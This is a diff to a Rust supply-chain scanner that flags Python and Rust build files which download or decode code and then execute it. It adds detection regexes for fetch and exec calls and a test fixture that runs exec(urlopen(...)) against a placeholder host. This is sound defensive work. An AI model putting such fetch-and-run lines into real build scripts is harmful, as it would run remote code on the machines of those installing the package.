@@ -15,6 +15,9 @@ pub(super) struct InstallScript {
     fetches: Regex,
     /// What starts programs or reaches the network from a build file.
     reaches: Regex,
+    /// What gets code from elsewhere, and what runs it.
+    gets: Regex,
+    runs: Regex,
 }
 
 /// Scripts that npm runs when a package is installed from the registry.
@@ -31,6 +34,12 @@ impl InstallScript {
             )?,
             reaches: Regex::new(
                 r"\b(?:subprocess|os\.system|os\.popen|urllib\.request|urlopen|requests\.(?:get|post)|httpx\.|socket\.|exec\(|eval\(|ctypes|Command::new|reqwest|ureq|TcpStream|std::net)",
+            )?,
+            gets: Regex::new(
+                r"\b(?:urlopen|urlretrieve|requests\.get|httpx\.get|b64decode|ureq::get|reqwest::)",
+            )?,
+            runs: Regex::new(
+                r"\b(?:exec|eval)\s*\(|\bos\.(?:system|popen|exec\w*)\s*\(|\bsubprocess\.|\bCommand::new",
             )?,
         })
     }
@@ -57,11 +66,14 @@ impl InstallScript {
 
     fn build_file(&self, file: &FileText<'_>, found: &mut Findings<'_>) {
         let code = String::from_utf8_lossy(file.code());
+        let fetches = self.gets.is_match(&code) && self.runs.is_match(&code);
         let severity = match self.reaches.is_match(&code) {
+            _ if fetches => Severity::Error,
             true => self.meta.severity,
             false => Severity::Info,
         };
-        let message = format!("{} runs when the package is built. {}", file.name(), self.meta.why);
+        let what = if fetches { " It gets code from elsewhere, or hides it, and runs it." } else { "" };
+        let message = format!("{} runs when the package is built.{what} {}", file.name(), self.meta.why);
         let first = self.reaches.find(&code).map_or("", |found| found.as_str());
         self.add(file, first, severity, first, message, found);
     }
@@ -150,6 +162,9 @@ mod tests {
     fn build_files_and_path_files_are_noted() {
         assert_eq!(of("setup.py", "from setuptools import setup\nsetup()\n"), Some(Severity::Info));
         assert_eq!(of("setup.py", "import subprocess\nsubprocess.run(['x'])\n"), Some(Severity::Warning));
+        let fetches = "from setuptools import setup\nexec(urlopen('https://x.example/a').read())\nsetup()\n";
+        assert_eq!(of("setup.py", fetches), Some(Severity::Error));
+        assert_eq!(of("setup.py", &fetches.replace("exec(", "print(")), Some(Severity::Warning));
         assert_eq!(of("build.rs", "fn main() {}"), Some(Severity::Info));
         assert_eq!(of("x.pth", "import os; os.system('x')\n"), Some(Severity::Error));
         assert_eq!(of("x.pth", "../src\n"), None);
